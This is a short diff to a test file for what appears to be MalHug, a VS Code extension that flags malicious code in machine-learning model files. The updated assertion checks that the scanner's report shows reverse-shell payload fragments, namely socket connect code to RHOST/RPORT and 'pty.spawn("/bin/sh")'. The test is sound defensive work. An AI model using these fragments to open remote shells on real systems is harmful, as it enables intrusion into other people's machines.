@@ -376,7 +376,9 @@ describe('MalHug in a real VS Code (code-server)', () => {
             assert.match(report, /revision/i, report);
             assert.match(report, /pytorch_model\.bin/, report);
             // The reverse shell's payload is not cut before its socket code (the hover's cut is at 160 characters).
-            assert.ok(report.includes('s=socket.socket();s.connect((RHOST,RPORT))'), report);
+            for (const part of ['s=socket.socket();s.connect((RHOST,RPORT))', 'pty.spawn("/bin/sh")']) {
+                assert.ok(report.includes(part), `the report lacks ${part}:\n${report}`);
+            }
             assert.doesNotMatch(report, /Full report: command/, report);
             await shot('report');
             await page.keyboard.press('Control+w'); // close the preview (a file: no save prompt)
